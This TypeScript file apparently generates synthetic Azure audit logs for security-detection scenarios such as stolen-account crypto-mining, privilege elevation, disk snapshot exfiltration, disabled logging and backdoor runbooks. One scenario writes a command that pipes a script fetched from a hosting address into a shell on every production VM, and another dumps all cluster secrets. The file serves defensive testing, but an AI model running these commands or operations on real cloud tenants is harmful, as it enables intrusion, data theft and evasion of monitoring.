import { azure, azureRoleId, grant, madeUp } from "../emit/azure.ts";
import { audit, signIn } from "../emit/entra.ts";
import { anomaly } from "../emit/upstream.ts";
import { apps } from "../org/identities.ts";
import type { Subscription } from "../org/identities.ts";
import type { Person } from "../org/people.ts";
import { foreignPlaces, homeLine, hostingSpot } from "../org/places.ts";
import { resource } from "../org/world.ts";
import type { Case, Kind } from "./case.ts";

const sub = (c: Case, index: number): Subscription => c.w.subscriptions[index] as Subscription;

export const azureKinds: Kind[] = [
  {
    kind: "mining-machines", area: "azure", difficulty: "obvious", times: 2,
    types: ["account_compromise", "financial_fraud"],
    run: (c) => {
      const who = c.of("Data", "Engineering");
      c.at(c.r.int(0, 22));
      const from = c.outside();
      c.about(from.ip);
      signIn(c, c.t, who, { app: apps.cli, from, device: undefined, agent: "azsdk-python-mgmt-compute/30.1",
        mfa: "claim" });
      const region = c.r.pick(["koreacentral", "brazilsouth", "uaenorth", "southafricanorth"]);
      for (let i = c.r.int(9, 18); i > 0; i--) {
        c.core(azure(c, c.step(0.1, 0.5), { op: "Microsoft.Compute/virtualMachines/write", by: who, from,
          on: madeUp(sub(c, 2), `rg-${c.r.hex(5)}`, `Microsoft.Compute/virtualMachines/vm${c.r.hex(6)}`),
            body: { location: region,
            properties: { hardwareProfile: { vmSize: c.r.pick(["Standard_NC24ads_A100_v4", "Standard_ND96asr_v4"]) },
              priority: "Spot" } }, ...(i % 4 === 0 ? { status: "Failure" as const, code: "QuotaExceeded" } : {}) }));
      }
      return "With a stolen account large graphics machines are started by the dozen in a region that nobody uses.";
    },
  },
  {
    kind: "access-raised-to-everything", area: "azure", difficulty: "obvious",
    types: ["privilege_escalation", "account_compromise", "insider_threat"],
    run: (c) => {
      const who = c.admin(/Identity|Head of IT/);
      c.at(c.r.pick([2, 21, 23]));
      const from = c.r.chance(0.5) ? who.home : c.outside();
      c.about(from.ip);
      c.core(azure(c, c.t, { op: "Microsoft.Authorization/elevateAccess/action", by: who, from, short: true, on: { id:
        "/providers/Microsoft.Authorization", group: "", subscription: { id: "", name: "" } } }));
      c.core(audit(c, c.t + 800, { op: "The role assignment of User Access Administrator has been granted to the user",
        by: who, from,
        category: "AzureRBACRoleManagementElevateAccess", service: "Azure RBAC (Elevated Access)",
          targets: [{ type: "Other", name: who.upn }] }));
      for (const one of c.w.subscriptions) {
        c.core(grant(c, c.step(1, 3), who, (who.owner ?? who).id, "User", "Owner", one, from));
      }
      return "An identity administrator raises his access over all of Azure and makes his everyday account " +
        "owner of every subscription.";
    },
  },
  {
    kind: "owner-for-unknown-principal", area: "azure", difficulty: "context",
    types: ["privilege_escalation", "account_compromise"],
    run: (c) => {
      c.workday();
      const who = c.admin(/Reliability|Platform/);
      c.working(who.owner ?? who);
      const foreign = c.r.uuid();
      c.about(foreign);
      c.core(grant(c, c.t, who, foreign, "ForeignGroup", "Owner", sub(c, c.r.int(0, 1)), c.spot(who.owner ?? who)));
      return "A group of another tenant becomes owner of a subscription; pipelines do that here for own " +
        "identities only.";
    },
  },
  {
    kind: "management-opened-to-internet", area: "azure", difficulty: "context", times: 2,
    types: ["policy_violation", "sabotage", "account_compromise"],
    run: (c) => {
      const who = c.of("Site Reliability");
      c.workday();
      c.local(who, c.r.pick([7, 20]));
      const nsg = resource(c.w, c.r.pick(["nsg-prod-mgmt", "nsg-prod-data"]));
      c.about(nsg.name);
      c.core(azure(c, c.t, { op: "Microsoft.Network/networkSecurityGroups/securityRules/write", by: who,
        from: c.spot(who), on: { ...nsg,
        id: `${nsg.id}/securityRules/temp-${c.r.hex(3)}` }, body: { properties: { access: "Allow",
          direction: "Inbound", priority: 100,
        destinationPortRanges: c.r.pick([["22", "3389"], ["5432"], ["*"]]), sourceAddressPrefix: "*" } } }));
      return "A rule with the highest priority opens a production network to the whole Internet.";
    },
  },
  {
    kind: "commands-on-all-machines", area: "azure", difficulty: "context",
    types: ["account_compromise", "privilege_escalation"],
    run: (c) => {
      const who = c.of("Site Reliability");
      c.local(who, c.r.pick([5, 22]));
      const from = homeLine(c.r, who.city);
      c.about(from.ip);
      signIn(c, c.t, who, { app: apps.cli, from, device: undefined, agent: "AZURECLI/2.61.0 (DEB)", mfa: "claim" });
      for (const vm of c.w.resources.filter((one) => one.group === "rg-prod-vm")) {
        c.core(azure(c, c.step(0.3, 1), { op: "Microsoft.Compute/virtualMachines/runCommand/action", by: who, from,
          on: vm, body: {
          commandId: "RunShellScript", script: [`curl -s http://${hostingSpot(c.r).ip}/a|sh`] } }));
      }
      return "From a new line the same script is run on every production machine by way of the management interface.";
    },
  },
  {
    kind: "disk-carried-away", area: "azure", difficulty: "context", types: ["data_exfiltration", "insider_threat"],
    run: (c) => {
      const who = c.of("Site Reliability");
      c.workday();
      c.local(who, 19.5);
      const snapshot = madeUp(sub(c, 0), "rg-prod-vm", `Microsoft.Compute/snapshots/tmp${c.r.hex(4)}`);
      c.core(azure(c, c.t, { op: "Microsoft.Compute/snapshots/write", by: who, from: c.spot(who), on: snapshot,
        body: { properties: {
        creationData: { sourceResourceId: resource(c.w, "pgdb-01").id } } } }));
      c.core(azure(c, c.step(3, 6), { op: "Microsoft.Compute/snapshots/beginGetAccess/action", by: who,
        from: c.spot(who), on: snapshot,
        body: { access: "Read", durationInSeconds: 86_400 } }));
      c.core(azure(c, c.step(90, 150), { op: "Microsoft.Compute/snapshots/delete", by: who, from: c.spot(who),
        on: snapshot, short: true }));
      return "The disk of the database is copied, its download opened for a day, and the copy deleted afterwards.";
    },
  },
  {
    kind: "activity-logging-ended", area: "azure", difficulty: "obvious",
    types: ["sabotage", "policy_violation", "account_compromise"],
    run: (c) => {
      const who = c.admin(/Reliability|Platform/);
      c.at(c.r.pick([0, 3, 22]));
      const from = c.outside();
      c.about(from.ip);
      for (const one of c.w.subscriptions) {
        c.core(azure(c, c.step(0.3, 1), { op: "Microsoft.Insights/diagnosticSettings/delete", by: who, from,
          on: madeUp(one, "",
          "") , short: true }));
      }
      c.core(azure(c, c.step(2, 4), { op: "Microsoft.SecurityInsights/dataConnectors/delete", by: who, from,
        on: resource(c.w, "law-security") }));
      return "The export of all activity logs is deleted at night from a foreign place, and then the connector " +
        "of the security team.";
    },
  },
  {
    kind: "vault-opened-to-oneself", area: "azure", difficulty: "context",
    types: ["privilege_escalation", "insider_threat", "data_exfiltration"],
    run: (c) => {
      const who = c.of("Site Reliability");
      c.working(who);
      const vault = resource(c.w, c.r.pick(["kv-prod-signing", "kv-prod-app"]));
      c.about(vault.name);
      c.core(azure(c, c.t, { op: "Microsoft.KeyVault/vaults/accessPolicies/write", by: who, from: c.spot(who),
        on: vault, body: { properties: {
        accessPolicies: [{ objectId: who.id, permissions: { secrets: ["all"], keys: ["all"],
          certificates: ["all"] } }] } } }));
      c.core(azure(c, c.step(40, 90), { op: "Microsoft.KeyVault/vaults/accessPolicies/write", by: who,
        from: c.spot(who), on: vault, body: {
        properties: { accessPolicies: [] } } }));
      return "An engineer gives himself all rights on the vault of the signing keys and removes them an hour later.";
    },
  },
  {
    kind: "runbook-backdoor", area: "azure", difficulty: "hard", types: ["account_compromise", "insider_threat"],
    run: (c) => {
      const who = c.of("Site Reliability");
      c.working(who);
      const account = resource(c.w, "aa-prod-ops");
      c.about(account.name);
      const child = (path: string): typeof account => ({ ...account, id: `${account.id}/${path}` });
      c.core(azure(c, c.t, { op: "Microsoft.Automation/automationAccounts/runbooks/draft/write", by: who,
        from: c.spot(who),
        on: child("runbooks/Update-Tags") }));
      c.core(azure(c, c.step(1, 3), { op: "Microsoft.Automation/automationAccounts/runbooks/publish/action", by: who,
        from: c.spot(who),
        on: child("runbooks/Update-Tags") }));
      c.core(azure(c, c.step(1, 3), { op: "Microsoft.Automation/automationAccounts/webhooks/write", by: who,
        from: c.spot(who),
        on: child("webhooks/wh1"), body: { properties: { expiryTime: "2036-01-01T00:00:00Z", isEnabled: true } } }));
      return "A harmless looking job is published with a web hook that is good for ten years.";
    },
  },
  {
    kind: "storage-made-public", area: "azure", difficulty: "context", types: ["policy_violation", "data_exfiltration"],
    run: (c) => {
      const who = c.of("Data", "Site Reliability");
      c.working(who);
      const store = resource(c.w, who.department === "Data" ? c.r.pick(["bkfinexports", "bkdatalake"])
        : "bkprodcustomers");
      c.about(store.name);
      c.core(azure(c, c.t, { op: "Microsoft.Storage/storageAccounts/write", by: who, from: c.spot(who), on: store,
        body: { properties: {
        allowBlobPublicAccess: true, publicNetworkAccess: "Enabled" } } }));
      c.core(azure(c, c.step(2, 5), { op: "Microsoft.Storage/storageAccounts/blobServices/containers/write", by: who,
        from: c.spot(who),
        on: { ...store, id: `${store.id}/blobServices/default/containers/share` },
          body: { properties: { publicAccess: "Container" } } }));
      return "A store with exports becomes readable for everybody on the Internet.";
    },
  },
  {
    kind: "cluster-credentials-from-abroad", area: "azure", difficulty: "context", types: ["account_compromise"],
    run: (c) => {
      const who = c.of("Site Reliability");
      c.at(c.r.int(0, 22));
      const from = homeLine(c.r, c.r.pick(foreignPlaces));
      c.about(from.ip);
      signIn(c, c.t, who, { app: apps.cli, from, mfa: "claim", device: { ...who.laptop, managed: false } });
      c.core(azure(c, c.step(1, 3),
        { op: "Microsoft.ContainerService/managedClusters/listClusterAdminCredential/action", by: who, from,
        on: resource(c.w, "aks-prod-weu"), short: true }));
      c.core(azure(c, c.step(3, 9), { op: "Microsoft.ContainerService/managedClusters/runCommand/action", by: who, from,
        on: resource(c.w, "aks-prod-weu"), body: { command: "kubectl get secrets -A -o yaml" } }));
      return "The token of an engineer is used from a country where nobody works to get the keys of the cluster.";
    },
  },
  {
    kind: "defence-plan-downgraded", area: "azure", difficulty: "context", types: ["sabotage", "policy_violation"],
    run: (c) => {
      c.workday();
      const who = c.admin(/Reliability|Platform/);
      c.at(12);
      for (const plan of ["VirtualMachines", "StorageAccounts", "KeyVaults", "Containers"]) {
        c.core(azure(c, c.step(0.5, 2), { op: "Microsoft.Security/pricings/write", by: who,
          on: madeUp(sub(c, 0), "", ""), short: true,
          body: { name: plan, properties: { pricingTier: "Free" } } }));
      }
      c.core(azure(c, c.step(2), { op: "Microsoft.Security/alertsSuppressionRules/write", by: who,
        on: madeUp(sub(c, 0), "", ""), short: true,
        body: { properties: { alertType: "*", reason: "Noise", state: "Enabled" } } }));
      return "The protection of production is set to the free plan and its alerts are suppressed.";
    },
  },
  {
    kind: "role-with-hidden-power", area: "azure", difficulty: "hard",
    types: ["privilege_escalation", "insider_threat"],
    run: (c) => {
      c.workday();
      const who = c.admin(/Reliability|Platform/);
      c.working(who.owner ?? who);
      const from = c.spot(who.owner ?? who);
      const id = c.r.uuid();
      const on = madeUp(sub(c, 0), "", "");
      c.core(azure(c, c.t, { op: "Microsoft.Authorization/roleDefinitions/write", by: who, from,
        on: { ...on, id: `${on.id}/providers/` +
        `Microsoft.Authorization/roleDefinitions/${id}` }, body: { properties: { roleName: "Cost Report Reader",
          permissions: [{ actions: [
        "Microsoft.CostManagement/*/read", "Microsoft.Authorization/*"] }] } } }));
      c.core(azure(c, c.step(5, 20), { op: "Microsoft.Authorization/roleAssignments/write", by: who, from,
        on: { ...on, id: `${on.id}/providers/` +
        `Microsoft.Authorization/roleAssignments/${c.r.uuid()}` },
          body: { Properties: { PrincipalId: c.r.uuid(), RoleDefinitionId: id,
        PrincipalType: "User" } } }));
      return "A role named after cost reports also holds the power to give any role, and is assigned.";
    },
  },
  {
    kind: "subscription-managed-by-stranger", area: "azure", difficulty: "context",
    types: ["privilege_escalation", "account_compromise"],
    run: (c) => {
      const who = c.admin(/Reliability|Platform/);
      c.at(c.r.pick([5, 20]));
      const from = c.outside();
      c.about(from.ip);
      const on = madeUp(sub(c, c.r.int(0, 3)), "", "");
      const tenant = c.r.uuid();
      c.about(tenant);
      for (const op of ["Microsoft.ManagedServices/registrationDefinitions/write",
        "Microsoft.ManagedServices/registrationAssignments/write"]) {
        c.core(azure(c, c.step(1, 3), { op, by: who, from, on: { ...on,
          id: `${on.id}/providers/${op.replace(/\/write$/, "")}/${c.r.uuid()}` },
          body: { properties: { managedByTenantId: tenant, authorizations: [{ principalId: c.r.uuid(), roleDefinitionId:
            azureRoleId("Contributor") }] } } }));
      }
      anomaly(c, c.t + 4e6, who, from, "Anomalous Azure operations", 0.81, "Persistence", "T1098");
      return "The management of a subscription is delegated to an unknown tenant.";
    },
  },
  {
    kind: "policy-waived", area: "azure", difficulty: "hard", types: ["policy_violation"],
    run: (c) => {
      c.workday();
      const who: Person = c.of("Site Reliability");
      c.working(who);
      const on = madeUp(sub(c, 0), "rg-prod-data", "");
      c.core(azure(c, c.t, { op: "Microsoft.Authorization/policyExemptions/write", by: who, from: c.spot(who),
        on: { ...on, id: `${on.id}/providers/` +
        "Microsoft.Authorization/policyExemptions/tmp" }, body: { properties: { exemptionCategory: "Waiver",
          displayName: "tmp" } } }));
      c.core(azure(c, c.step(9, 30), { op: "Microsoft.Storage/storageAccounts/write", by: who, from: c.spot(who),
        on: resource(c.w, "bkprodlogs"),
        body: { properties: { minimumTlsVersion: "TLS1_0", allowSharedKeyAccess: true } } }));
      c.about("bkprodlogs");
      return "A waiver of the rules is set on production data, and a store is weakened at once.";
    },
  },
];
